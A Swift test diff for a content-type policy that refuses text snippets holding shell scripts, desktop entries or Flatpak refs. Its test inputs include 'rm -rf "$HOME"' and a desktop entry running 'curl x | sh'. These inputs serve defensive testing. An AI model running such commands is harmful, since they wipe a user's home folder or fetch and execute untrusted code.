@@ -252,6 +252,41 @@ struct TypePolicyTests {
     #expect(policy.judge(name: "t", kind: .text, head: cut, totalSize: 100, sniffer: sniffer).accepted)
   }
 
+  @Test(
+    "a text snippet is refused on its content as a .txt file of the same bytes is, with the same reason",
+    arguments: [
+      ("#!/bin/sh\nrm -rf \"$HOME\"\n", "public.shell-script", "public.script"),
+      ("#!/usr/bin/env python3\nprint('hi')\n", "public.python-script", "public.script"),
+      (
+        "[Desktop Entry]\nType=Application\nName=Photos\nExec=sh -c 'curl x | sh'\n", "org.freedesktop.desktop-entry",
+        "org.freedesktop.desktop-entry"
+      ),
+      ("[Flatpak Ref]\nName=org.example.App\nUrl=https://example.org/repo\n", "org.flatpak.flatpakref", "public.installer-package"),
+    ] as [(String, String, String)])
+  func textSnippetsAreJudgedOnTheirContent(text: String, type: String, family: String) throws {
+    let policy = try Self.policy.get()
+    let sniffer = try Self.sniffer.get()
+    let snippet = policy.judge(name: "x.desktop", kind: .text, head: SampleBytes.utf8(text), sniffer: sniffer)
+    let file = policy.judge(name: "x.desktop.txt", head: SampleBytes.utf8(text), sniffer: sniffer)
+    #expect(!snippet.accepted && snippet.rule == .excludedContent && snippet.rule == file.rule, "\(snippet.reason)")
+    #expect(
+      snippet.type == TypeIdentifier(type) && snippet.type == file.type && snippet.decidedBy == family
+        && snippet.decidedBy == file.decidedBy)
+    #expect(snippet.reason == file.reason.replacingOccurrences(of: "x.desktop.txt", with: "the text snippet"), "\(snippet.reason)")
+    #expect(snippet.remedy == file.remedy)
+  }
+
+  @Test("a text snippet of prose, code without #!, Markdown or JSON stays accepted as text")
+  func everydaySnippetsStayAccepted() throws {
+    let policy = try Self.policy.get()
+    let sniffer = try Self.sniffer.get()
+    for text in ["see you at 6\n", "import os\nprint(os.getcwd())\n", "# Notes\n\n- milk\n", "{\"a\": 1}\n", "sh", "#"] {
+      let verdict = policy.judge(name: "note", kind: .text, head: SampleBytes.utf8(text), sniffer: sniffer)
+      #expect(
+        verdict.accepted && verdict.type == .utf8PlainText && verdict.decidedBy == "Text", "\(text.debugDescription): \(verdict.reason)")
+    }
+  }
+
   @Test("URL items must be one URL with a scheme")
   func urlItems() throws {
     let policy = try Self.policy.get()
